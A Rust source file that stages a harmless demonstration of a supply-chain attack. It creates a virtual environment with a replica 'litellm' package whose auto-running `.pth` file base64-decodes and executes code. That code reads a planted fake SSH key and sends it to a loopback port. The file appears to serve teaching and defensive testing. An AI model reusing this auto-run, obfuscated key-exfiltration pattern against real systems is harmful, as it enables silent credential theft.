//! `custody demo`'s stage: a folder holding the Mercor story's parts, all
//! harmless. A vendor's curation environment (a real virtual environment)
//! with a replica of litellm 1.82.8 whose `.pth` runs at every Python
//! start-up, reads a planted SSH key and sends it to a loopback port the
//! demo listens on; the vendor's raw data and curation script; the lab's
//! delivery policy. The replica's payload is the real one's shape (base64
//! handed to `exec` in a `.pth`), its target a fake key and 127.0.0.1.

use std::path::{Path, PathBuf};
use std::process::Command;

use base64::Engine as _;

/// The planted key's content: not a key.
pub const PLANTED: &str = "DEMO-SSH-KEY-not-a-secret";

/// Where the stage put things (relative paths are the demo folder's).
#[derive(Debug, Clone)]
pub struct Stage {
    /// The folder.
    pub dir: PathBuf,
    /// The vendor's virtual environment.
    pub env: PathBuf,
    /// Its Python.
    pub python: PathBuf,
    /// The planted key.
    pub key: PathBuf,
}

/// A new folder for a demo under the system's temp folder (kept: the
/// report is there to open).
pub fn default_dir() -> PathBuf {
    let stamp = jiff::Timestamp::now().as_millisecond();
    std::env::temp_dir().join(format!("custody-demo-{}-{stamp}", std::process::id()))
}

/// The site-packages folder of the stage's environment, relative to the
/// stage (`vendor-env/lib/python3.X/site-packages`).
pub fn site_packages(stage: &Stage) -> PathBuf {
    fs_err::read_dir(stage.env.join("lib"))
        .ok()
        .and_then(|d| {
            d.filter_map(Result::ok)
                .map(|e| e.path().join("site-packages"))
                .find(|p| p.is_dir())
        })
        .and_then(|p| p.strip_prefix(&stage.dir).ok().map(Path::to_owned))
        .unwrap_or_else(|| PathBuf::from("vendor-env/lib"))
}

/// Why the stage could not be built.
#[derive(Debug, thiserror::Error)]
pub enum StageError {
    /// A file could not be written.
    #[error("{0}")]
    Io(#[from] std::io::Error),
    /// `python3 -m venv` failed.
    #[error("python3 -m venv failed: {0}")]
    Venv(String),
}

/// The replica's start-up code: read the key, send it to the port.
fn payload(key: &Path, port: u16) -> String {
    format!(
        "try:\n    k = open({key:?}).read()\nexcept Exception:\n    k = 'unreadable'\n\
         try:\n    s = socket.create_connection(('127.0.0.1', {port}), 2)\n    s.sendall(k.encode())\n    s.close()\n\
         except Exception:\n    pass\n",
        key = key.display().to_string()
    )
}

/// Builds the stage in `dir` with `python` (a Python 3 with `venv`); the
/// replica sends to `port`.
///
/// # Errors
/// See [`StageError`].
pub fn stage(dir: &Path, python: &str, port: u16) -> Result<Stage, StageError> {
    fs_err::create_dir_all(dir)?;
    let env = dir.join("vendor-env");
    let out = Command::new(python)
        .args(["-m", "venv", "--without-pip"])
        .arg(&env)
        .output()?;
    if !out.status.success() {
        return Err(StageError::Venv(
            String::from_utf8_lossy(&out.stderr).trim().to_owned(),
        ));
    }
    let lib = env.join("lib");
    let site = fs_err::read_dir(&lib)?
        .filter_map(Result::ok)
        .map(|e| e.path().join("site-packages"))
        .find(|p| p.is_dir())
        .ok_or_else(|| {
            std::io::Error::other(format!("no site-packages under {}", lib.display()))
        })?;
    let key = dir.join("vendor-home/.ssh/id_ed25519");
    fs_err::create_dir_all(key.parent().unwrap_or(dir))?;
    fs_err::write(&key, format!("{PLANTED}\n"))?;
    let dist = site.join("litellm-1.82.8.dist-info");
    fs_err::create_dir_all(&dist)?;
    fs_err::create_dir_all(site.join("litellm"))?;
    fs_err::write(
        dist.join("METADATA"),
        "Metadata-Version: 2.1\nName: litellm\nVersion: 1.82.8\nSummary: a harmless replica for custody demo\n",
    )?;
    fs_err::write(dist.join("INSTALLER"), "custody-demo\n")?;
    fs_err::write(site.join("litellm/__init__.py"), "__version__ = '1.82.8'\n")?;
    let encoded = base64::engine::general_purpose::STANDARD.encode(payload(&key, port));
    fs_err::write(
        site.join("litellm_init.pth"),
        format!("import os, socket, base64; exec(base64.b64decode({encoded:?}))\n"),
    )?;
    fs_err::write(
        dist.join("RECORD"),
        "litellm/__init__.py,,\nlitellm_init.pth,,\nlitellm-1.82.8.dist-info/METADATA,,\n\
         litellm-1.82.8.dist-info/INSTALLER,,\nlitellm-1.82.8.dist-info/RECORD,,\n",
    )?;
    fs_err::create_dir_all(dir.join("raw"))?;
    fs_err::create_dir_all(dir.join("clean"))?;
    fs_err::write(
        dir.join("raw/tasks.jsonl"),
        "{\"id\": 1, \"task\": \"grade the proof\", \"rubric\": \"r1\"}\n\
         {\"id\": 2, \"task\": \"summarise the contract\", \"rubric\": \"r2\"}\n\
         {\"id\": 3, \"task\": \"fix the failing test\", \"rubric\": \"r3\"}\n",
    )?;
    fs_err::write(
        dir.join("curate.py"),
        "import json\nrows = [json.loads(l) for l in open('raw/tasks.jsonl')]\n\
         with open('clean/tasks.jsonl', 'w') as f:\n    for r in rows:\n        f.write(json.dumps(r, sort_keys=True) + '\\n')\n",
    )?;
    fs_err::write(
        dir.join("delivery.toml"),
        "# The lab's policy for this vendor's deliveries.\nsandboxed = true\nnetwork = \"none\"\n\
         sealed-sources = true\nreject-severity = \"high\"\nmax-age = \"30d\"\n",
    )?;
    Ok(Stage {
        dir: dir.to_owned(),
        python: env.join("bin/python"),
        env,
        key,
    })
}
